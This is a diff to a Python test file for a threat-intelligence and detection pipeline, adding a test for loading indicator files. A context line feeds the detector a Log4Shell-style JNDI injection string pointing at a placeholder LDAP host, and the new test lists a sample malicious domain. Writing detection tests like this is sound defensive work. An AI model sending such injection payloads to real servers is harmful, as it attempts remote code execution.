@@ -72,3 +72,19 @@ def test_cidr_pattern_and_signals():
     sig = ti.signals(ev(source="zeek", src_ip="10.0.0.7", fields={"uri": "/?x=${jndi:ldap://1.2.3.4/a}"}), EntityResolver())
     assert sig and sig[0].detail["confidence"] == 0.95 and sig[0].severity == "critical"
     assert ti.match(ev(src_ip="10.0.0.7", dst_ip="10.0.0.8")) == []
+
+
+def test_configured_indicator_files_are_loaded_from_files_and_folders(tmp_path):
+    from aiops.security.sigma_pipeline import SecurityConfig, load_threat_intel
+
+    feeds = tmp_path / "feeds"
+    feeds.mkdir()
+    (feeds / "a.csv").write_text("type,value,source,confidence\nip,198.51.100.7,feed-a,90\nnonsense,x,feed-a,10\n")
+    (feeds / "notes.txt").write_text("not an indicator file")
+    single = tmp_path / "b.json"
+    single.write_text('{"type": "bundle", "objects": [{"type": "indicator", "spec_version": "2.1", "id": "indicator--1", '
+                      '"pattern": "[domain-name:value = \'evil.example\']", "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"}]}')
+    cfg = SecurityConfig.model_validate({"threat_intel": {"paths": [str(feeds), str(single), str(tmp_path / "absent")]}})
+    assert [p.name for p in cfg.threat_intel.files()] == ["a.csv", "b.json"]
+    intel = load_threat_intel(cfg)
+    assert len(intel) == 2 and len(intel.errors) == 1
